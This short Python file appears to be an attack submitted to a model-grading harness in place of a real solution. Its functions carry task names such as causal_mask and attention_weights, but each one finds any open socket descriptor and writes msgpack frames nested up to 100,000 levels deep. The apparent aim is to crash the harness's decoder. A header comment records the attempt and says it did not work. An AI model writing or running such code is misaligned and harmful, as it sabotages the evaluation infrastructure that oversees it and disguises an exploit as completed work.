# Tries: sends lists in lists, 500,000 deep, and just as deep as a decoder may allow.
# Worked in: -
# Deserves: nothing
import os
import stat

import msgspec
import torch


def send(frame):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                while frame:
                    frame = frame[os.write(descriptor, frame) :]
        except OSError:
            continue


def framed(message):
    body = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    return len(body).to_bytes(8, "little") + body


def returned(value, before=1):
    done = [{"type": "done"}] * before
    return {"type": "outcomes", "outcomes": [*done, {"type": "returned", "value": value}]}


def nest(depth):
    head = msgspec.msgpack.encode({"type": "items", "kind": "list", "items": [0]})[:-1]
    body = msgspec.msgpack.encode(returned(0))[:-1]
    return framed(body + head * depth + b"\xc0")


def causal_mask(num_tokens):
    send(nest(100_000))


def softmax_naive(scores):
    send(nest(300))


def attention_weights(inputs):
    send(nest(900))
